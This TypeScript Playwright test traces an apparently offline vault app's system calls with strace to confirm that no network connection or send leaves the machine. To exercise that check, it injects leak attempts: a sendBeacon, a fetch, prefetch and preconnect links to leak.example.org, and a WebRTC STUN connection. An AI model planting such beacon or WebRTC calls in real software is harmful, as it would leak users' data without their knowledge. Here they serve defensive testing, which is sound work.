/** No way out: the system calls of every process of the app, from its start over a new vault to its end (strace). */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from './fixtures.ts';
import { makeVault } from './pages/start-page.ts';

const hasStrace = spawnSync('strace', ['-V'], { stdio: 'ignore' }).status === 0;

/**
 * Calls that leave this computer. Chromium asks the kernel for a route by `connect` on a datagram socket, which sends nothing, so
 * of datagrams only what is sent counts; of streams every connection. Playwright itself talks on 127.0.0.1.
 */
function callsOutside(log: string): string[] {
  return log.split('\n').filter((line) => {
    const isLocal = /127\.0\.0\.1|"::1"|\[::1\]/.test(line);
    const isStream = /<TCP(v6)?:/.test(line) && line.includes('connect(');
    const isSent = /<UDP(v6)?:/.test(line) && /send(to|msg|mmsg)\(/.test(line);
    return !isLocal && (isStream || isSent);
  });
}

test('nothing is sent or connected to a network, from start to quit', async ({ launch, scratch }) => {
  test.skip(!hasStrace, 'strace is not installed');
  const log = path.join(scratch, 'calls');
  const app = await launch({
    through: ['strace', '-f', '-qq', '-yy', '-e', 'trace=connect,sendto,sendmsg,sendmmsg', '-o', log],
  });
  const main = await makeVault(app);
  await main.evaluate(async () => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = '//leak.example.org';
    document.head.append(link);
    const near = document.createElement('link');
    near.rel = 'preconnect';
    near.href = 'https://leak.example.org';
    document.head.append(near);
    navigator.sendBeacon('https://leak.example.org/', 'x');
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }] });
    peer.createDataChannel('x');
    const gathered = new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(null);
    });
    await peer.setLocalDescription(await peer.createOffer());
    await fetch('https://leak.example.org/').catch(() => undefined);
    await gathered;
  });
  // Looking up a name ahead of time tells nobody when it is over.
  await main.waitForTimeout(1500);
  await app.close();
  const text = fs.readFileSync(log, 'utf8');
  expect(text, 'the trace names the kind of each socket').toMatch(/<UDP(v6)?:/);
  expect(callsOutside(text)).toEqual([]);
});
